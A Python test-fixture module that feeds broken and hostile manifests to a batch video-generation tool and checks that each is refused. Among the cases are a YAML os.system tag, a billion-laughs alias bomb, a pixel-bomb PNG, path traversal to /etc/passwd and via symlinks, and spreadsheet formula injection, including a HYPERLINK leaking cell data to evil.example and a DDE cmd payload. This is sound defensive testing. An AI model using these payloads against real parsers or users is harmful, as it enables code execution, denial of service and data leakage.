"""The hostile and broken inputs of test_bad_input (each builds its files in a folder and
says what the refusal must contain), and the check that a refusal is complete; the
misspelt-column tests reuse some of them."""

from __future__ import annotations

import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import openpyxl
from PIL import Image

from batchgen.jobs import content_hash
from tests.helpers import make_image

#: Builds a case's files in a folder and returns the manifest to run.
Build = Callable[[Path], Path]


@dataclass(frozen=True)
class Case:
    build: Build
    expected: tuple[str, ...]  # every one must be in stderr; the first is file:row: column:


def write(path: Path, data: bytes | str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, str):
        data = data.encode("utf-8")
    path.write_bytes(data)
    return path


def image_row(name: str, image: str) -> Build:
    def build(folder: Path) -> Path:
        return write(folder / name, f"id,prompt,image\r\nshot-1,a red kite,{image}\r\n")

    return build


# --------------------------------------------------------------------------- spreadsheets


def unbalanced_quotes(folder: Path) -> Path:
    text = 'id,prompt\r\na,"fine, quoted"\r\nb,"never closed\r\nc,more\r\nd,and more\r\n'
    return write(folder / "quotes.csv", text)


def mixed_encodings(folder: Path) -> Path:
    """A UTF-8 sheet with one row pasted from a Windows-1252 file. Decoded as GB18030 (what
    Excel writes on Chinese Windows) it would be 'caf茅' and 'cr鑝e' and be paid for."""
    return write(
        folder / "mixed.csv",
        "id,prompt,owner\r\na,café au lait on a table,zoë\r\n".encode()
        + "b,crème brûlée with a torch,zoë\r\n".encode("cp1252")
        + "c,naïve painting of a fox,zoë\r\n".encode(),
    )


def windows_1252(folder: Path) -> Path:
    """A whole file in Windows-1252 ('CSV' from Excel on a Western Windows) that happens to
    decode as GB18030."""
    text = "id,prompt\r\na,plain words\r\nb,crème brûlée\r\n"
    return write(folder / "western.csv", text.encode("cp1252"))


def utf8_with_a_gbk_row(folder: Path) -> Path:
    return write(
        folder / "chinese.csv",
        "id,prompt\r\na,一只纸船在雨中的街道上漂流\r\nb,夕阳下连绵起伏的山丘\r\n".encode()
        + "c,城市夜景，霓虹灯闪烁\r\n".encode("gb18030"),
    )


def binary_named_csv(folder: Path) -> Path:
    buffer = folder / "photo.jpg"
    Image.new("RGB", (64, 64), (1, 2, 3)).save(buffer, "JPEG")
    return write(folder / "binary.csv", buffer.read_bytes())


def random_bytes_named_csv(folder: Path) -> Path:
    data = random.Random(7).randbytes(4096).replace(b"\x00", b"\x01")  # no NUL to spot
    return write(folder / "noise.csv", data)


def zip_named_csv(folder: Path) -> Path:
    with zipfile.ZipFile(folder / "archive.zip", "w") as archive:
        archive.writestr("shots.csv", "prompt\r\na cat\r\n")
    return write(folder / "zipped.csv", (folder / "archive.zip").read_bytes())


def empty_file(folder: Path) -> Path:
    return write(folder / "empty.csv", b"")


def header_only(folder: Path) -> Path:
    return write(folder / "header.csv", "id,prompt,image\r\n")


def yaml_without_rows(folder: Path) -> Path:
    return write(folder / "none.yaml", "profile: openai\nrows: []\n")


def no_prompt_column(folder: Path) -> Path:
    return write(folder / "noprompt.csv", "id,text,seconds\r\na,a cat,4\r\nb,a dog,8\r\n")


def duplicate_headers(folder: Path) -> Path:
    return write(folder / "dup.csv", "id,Prompt,seconds, PROMPT \r\na,a cat,4,a dog\r\n")


def long_prompt(length: int) -> Build:
    def build(folder: Path) -> Path:
        return write(folder / "long.csv", f"id,prompt\r\na,short\r\nb,{'x' * length}\r\n")

    return build


# --------------------------------------------------------------------------- column names


def misspelt_header(folder: Path) -> Path:
    rows = "".join(f"r{n},shot {n},8,autumn\r\n" for n in range(3))
    return write(folder / "typo.csv", f"id,prompt,sceonds,campaign\r\n{rows}")


def synonym_header(folder: Path) -> Path:
    return write(folder / "synonym.csv", "id,prompt,Duration\r\na,a cat,8\r\n")


def misspelt_yaml_key(folder: Path) -> Path:
    text = "rows:\n  - {id: a, prompt: A cat}\n  - {id: b, prompt: A dog, modle: sora-2-pro}\n"
    return write(folder / "typo.yaml", text)


def misspelt_default(folder: Path) -> Path:
    return write(folder / "defaults.yaml", "defaults: {sceonds: 8}\nrows:\n  - {prompt: A cat}\n")


def batchgens_own_columns(folder: Path) -> Path:
    return write(folder / "own.csv", "prompt,Status,file,key\r\na cat,draft,cat.mp4,k1\r\n")


# --------------------------------------------------------------------------- keys, text, remixes


def id_equal_to_a_take_key(folder: Path) -> Path:
    text = "rows:\n  - {id: hero, prompt: A, takes: 2}\n  - {id: 'hero[take2]', prompt: B}\n"
    return write(folder / "takes.yaml", text)


def id_equal_to_a_content_key(folder: Path) -> Path:
    """A row without an id is keyed by a hash of what it sends; an id may not take it."""
    sent = {"model": "sora-2", "prompt": "A cat", "seconds": "4", "size": "720x1280"}
    key = f"h{content_hash(sent, None)}-1"
    text = f"rows:\n  - {{prompt: A cat}}\n  - {{id: '{key}', prompt: B}}\n"
    return write(folder / "hashed.yaml", text)


def lone_surrogate_prompt(folder: Path) -> Path:
    text = 'rows:\n  - {id: a, prompt: fine}\n  - {id: b, prompt: "caf\\udc81 noir"}\n'
    return write(folder / "surrogate.yaml", text)


def lone_surrogate_cell(folder: Path) -> Path:
    text = 'defaults: {owner: "zo\\ud800"}\nrows:\n  - {id: a, prompt: fine}\n'
    return write(folder / "cell.yaml", text)


def lone_surrogate_column(folder: Path) -> Path:
    return write(folder / "name.yaml", 'rows:\n  - {id: a, prompt: fine, "own\\udc81er": mia}\n')


def remix_cycle(folder: Path) -> Path:
    text = "rows:\n  - {id: a, remix_of: b, prompt: A}\n  - {id: b, remix_of: a, prompt: B}\n"
    return write(folder / "cycle.yaml", text)


def remix_cycle_of_three(folder: Path) -> Path:
    rows = "".join(
        f"  - {{id: {a}, remix_of: {b}, prompt: {a}}}\n"
        for a, b in [("x", "y"), ("y", "z"), ("z", "x")]
    )
    return write(folder / "loop.yaml", f"rows:\n  - {{id: w, prompt: W}}\n{rows}")


def remix_of_nothing(folder: Path) -> Path:
    text = "rows:\n  - {id: cat, prompt: A}\n  - {id: jazz, remix_of: the cat, prompt: B}\n"
    return write(folder / "nothing.yaml", text)


def remix_of_a_misspelt_id(folder: Path) -> Path:
    text = "rows:\n  - {id: kitten, prompt: A}\n  - {id: jazz, remix_of: kiten, prompt: B}\n"
    return write(folder / "kiten.yaml", text)


# --------------------------------------------------------------------------- YAML


def python_tag(folder: Path) -> Path:
    marker = folder / "pwned"
    text = f"rows:\n  - prompt: !!python/object/apply:os.system ['touch {marker}']\n"
    return write(folder / "tag.yaml", text)


def billion_laughs(folder: Path) -> Path:
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [
        f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join([f'*{chr(97 + i)}'] * 9)}]" for i in range(8)
    ]
    lines += ["rows:", "  - prompt: *i"]
    return write(folder / "lol.yaml", "\n".join(lines) + "\n")


# --------------------------------------------------------------------------- images


def text_named_jpg(folder: Path) -> Path:
    write(folder / "cat.jpg", "this is not a picture of a cat\n")
    return image_row("textjpg.csv", "cat.jpg")(folder)


def empty_image(folder: Path) -> Path:
    write(folder / "empty.png", b"")
    return image_row("zero.csv", "empty.png")(folder)


def truncated_png(folder: Path) -> Path:
    make_image(folder / "whole.png")
    write(folder / "half.png", (folder / "whole.png").read_bytes()[:1500])
    return image_row("trunc.csv", "half.png")(folder)


def pixel_bomb(folder: Path) -> Path:
    """A few bytes on disk whose header claims 100,000 x 100,000 pixels (10 billion)."""
    make_image(folder / "tiny.png", (1, 1))
    data = bytearray((folder / "tiny.png").read_bytes())
    ihdr = data.index(b"IHDR")
    data[ihdr + 4 : ihdr + 12] = struct.pack(">II", 100_000, 100_000)
    crc = zlib.crc32(bytes(data[ihdr : ihdr + 17]))
    data[ihdr + 17 : ihdr + 21] = struct.pack(">I", crc)
    write(folder / "bomb.png", bytes(data))
    return image_row("pixels.csv", "bomb.png")(folder)


def sixty_megabytes(folder: Path) -> Path:
    """A 60 MB PNG of noise (4,500 x 4,500): what a 60 MB image really is — a photo or
    render at its own resolution, not the video's."""
    side = 4500
    noise = random.Random(60).randbytes(side * side * 3)
    Image.frombytes("RGB", (side, side), noise).save(folder / "huge.png", compress_level=0)
    assert (folder / "huge.png").stat().st_size > 60_000_000
    return image_row("huge.csv", "huge.png")(folder)


def dot_dot(folder: Path) -> Path:
    make_image(folder.parent / f"{folder.name}-outside.png")
    return image_row("dotdot.csv", f"../{folder.name}-outside.png")(folder)


def absolute_outside(folder: Path) -> Path:
    outside = make_image(folder.parent / f"{folder.name}-abs.png")
    return image_row("abs.csv", str(outside))(folder)


def system_file(folder: Path) -> Path:
    return image_row("etc.csv", "/etc/passwd")(folder)


def symlink_out(folder: Path) -> Path:
    outside = make_image(folder.parent / f"{folder.name}-linked.png")
    (folder / "inside.png").symlink_to(outside)
    return image_row("link.csv", "inside.png")(folder)


def symlinked_folder_out(folder: Path) -> Path:
    outside = folder.parent / f"{folder.name}-elsewhere"
    make_image(outside / "ref.png")
    (folder / "refs").symlink_to(outside, target_is_directory=True)
    return image_row("linkdir.csv", "refs/ref.png")(folder)


# --------------------------------------------------------------------------- workbooks


def workbook_formulas(folder: Path) -> Path:
    """Formulas as openpyxl (or any tool but Excel) saves them: no stored result. One is a
    classic injection payload; batchgen must neither evaluate nor send formula text."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["id", "prompt", "seconds"])
    sheet.append(["a", "a lighthouse", 4])
    sheet.append(["b", '=HYPERLINK("http://evil.example/?"&A2,"click")', "=B2*2"])
    sheet.append(["c", "=cmd|' /C calc'!A0", 8])
    workbook.save(folder / "formulas.xlsx")
    return folder / "formulas.xlsx"


def workbook_merged_cells(folder: Path) -> Path:
    """A prompt merged over two rows shows in both rows in Excel, but the file holds it in
    the first only: the second row has no prompt."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["id", "prompt", "seconds", "campaign"])
    sheet.append(["a", "one prompt for two shots", 4, "spring"])
    sheet.append(["b", None, 8, None])
    sheet.merge_cells("B2:B3")
    sheet.merge_cells("D2:D3")
    workbook.save(folder / "merged.xlsx")
    return folder / "merged.xlsx"


CASES = {
    "unbalanced-quotes": Case(unbalanced_quotes, ("quotes.csv:3: unbalanced quotes",)),
    "mixed-encodings": Case(
        mixed_encodings, ("mixed.csv:3: prompt: byte 0xE8 is not UTF-8", "mixes text encodings")
    ),
    "windows-1252": Case(windows_1252, ("western.csv:3: prompt: byte 0xE8 is not UTF-8",)),
    "utf8-with-a-gbk-row": Case(utf8_with_a_gbk_row, ("chinese.csv:4: prompt: byte 0x",)),
    "jpeg-named-csv": Case(binary_named_csv, ("binary.csv: is binary, not text",)),
    "noise-named-csv": Case(random_bytes_named_csv, ("noise.csv:", "not UTF-8")),
    "zip-named-csv": Case(zip_named_csv, ("zipped.csv: is a zip file",)),
    "empty-file": Case(empty_file, ("empty.csv: the file is empty",)),
    "header-only": Case(header_only, ("header.csv: has no rows to send",)),
    "yaml-no-rows": Case(yaml_without_rows, ("none.yaml: has no rows to send",)),
    "no-prompt-column": Case(
        no_prompt_column,
        (
            "noprompt.csv:1: prompt: no prompt column: the columns are id, text, seconds; "
            "'text' is probably it",
            "batchgen: 1 problem(s)",
        ),
    ),
    "duplicate-headers": Case(duplicate_headers, ("dup.csv:1: prompt: duplicate column",)),
    "misspelt-header": Case(
        misspelt_header,
        ("typo.csv:1: sceonds: unknown column, probably meant 'seconds'", "passthrough: [sceonds]"),
    ),
    "synonym-header": Case(
        synonym_header, ("synonym.csv:1: duration: unknown column, probably meant 'seconds'",)
    ),
    "misspelt-yaml-key": Case(
        misspelt_yaml_key, ("typo.yaml:3: modle: unknown column, probably meant 'model'",)
    ),
    "misspelt-default": Case(
        misspelt_default, ("defaults.yaml:3: sceonds: unknown column, probably meant 'seconds'",)
    ),
    "batchgens-own-columns": Case(
        batchgens_own_columns,
        (
            "own.csv:1: status: batchgen writes a column 'status' in the results itself",
            "rename it, e.g. my_status",
            "own.csv:1: file: batchgen writes a column 'file'",
            "own.csv:1: key: batchgen writes a column 'key'",
        ),
    ),
    "id-equal-to-a-take-key": Case(
        id_equal_to_a_take_key,
        (
            "takes.yaml:2: id: the key 'hero[take2]' would be used by rows 2, 3",
            "takes.yaml:3: id: the key 'hero[take2]' would be used by rows 2, 3",
        ),
    ),
    "id-equal-to-a-content-key": Case(
        id_equal_to_a_content_key,
        ("hashed.yaml:2: id: the key 'h", "' would be used by rows 2, 3"),
    ),
    "lone-surrogate-prompt": Case(
        lone_surrogate_prompt,
        ("surrogate.yaml:3: prompt: character 4 (\\udc81) cannot be written as UTF-8",),
    ),
    "lone-surrogate-cell": Case(
        lone_surrogate_cell, ("cell.yaml:3: owner: character 3 (\\ud800) cannot be written",)
    ),
    "lone-surrogate-column": Case(
        lone_surrogate_column,
        ("name.yaml:2: own\\udc81er: the column's name: character 4 (\\udc81) cannot be",),
    ),
    "remix-cycle": Case(
        remix_cycle,
        (
            "cycle.yaml:2: remix_of: remix cycle a -> b -> a (rows 2, 3)",
            "cycle.yaml:3: remix_of: remix cycle a -> b -> a (rows 2, 3)",
        ),
    ),
    "remix-cycle-of-three": Case(
        remix_cycle_of_three,
        tuple(
            f"loop.yaml:{n}: remix_of: remix cycle x -> y -> z -> x (rows 3, 4, 5)"
            for n in (3, 4, 5)
        ),
    ),
    "remix-of-nothing": Case(
        remix_of_nothing,
        ("nothing.yaml:3: remix_of: 'the cat' is neither the id of a row of this manifest nor",),
    ),
    "remix-of-a-misspelt-id": Case(
        remix_of_a_misspelt_id,
        ("kiten.yaml:3: remix_of: no row has the id 'kiten': did you mean 'kitten'?",),
    ),
    "prompt-100k": Case(long_prompt(100_000), ("long.csv:3: prompt: is 100,000 characters",)),
    "prompt-1m": Case(long_prompt(1_000_000), ("long.csv:3: prompt: is 1,000,000 characters",)),
    "yaml-python-tag": Case(python_tag, ("tag.yaml:2: not allowed in a manifest",)),
    "yaml-alias-bomb": Case(billion_laughs, ("lol.yaml:2: YAML aliases",)),
    "text-named-jpg": Case(text_named_jpg, ("textjpg.csv:2: image: cat.jpg: is not an image",)),
    "empty-image": Case(empty_image, ("zero.csv:2: image: empty.png: the file is empty",)),
    "truncated-png": Case(truncated_png, ("trunc.csv:2: image: half.png: the image data is",)),
    "pixel-bomb": Case(pixel_bomb, ("pixels.csv:2: image: bomb.png: has too many pixels",)),
    "image-60mb": Case(sixty_megabytes, ("huge.csv:2: image: image is 4500x4500 but size",)),
    "dot-dot": Case(dot_dot, ("dotdot.csv:2: image: ../", "is outside the image folder")),
    "absolute-path": Case(absolute_outside, ("abs.csv:2: image: /", "is outside the image")),
    "etc-passwd": Case(system_file, ("etc.csv:2: image: /etc/passwd: is outside the image",)),
    "symlink-out": Case(symlink_out, ("link.csv:2: image: inside.png: is outside the image",)),
    "symlinked-folder": Case(symlinked_folder_out, ("linkdir.csv:2: image: refs/ref.png: is",)),
    "xlsx-formulas": Case(
        workbook_formulas,
        (
            "formulas.xlsx:3: cell B3 is a formula with no saved value",
            "formulas.xlsx:3: cell C3 is a formula",
            "formulas.xlsx:4: cell B4 is a formula",
        ),
    ),
    "xlsx-merged-cells": Case(workbook_merged_cells, ("merged.xlsx:3: prompt: missing",)),
}


def check_refused(result_code: int, stdout: str, stderr: str, case: Case, folder: Path) -> None:
    assert result_code == 2, stdout + stderr
    assert "Traceback" not in stdout + stderr
    for expected in case.expected:
        assert expected in stderr, stderr
    assert "nothing was sent" in stderr
    assert len(stderr) < 5000  # a message, not the offending input echoed back
    assert not list(folder.glob("*.results.csv"))
    assert not (folder / "pwned").exists()
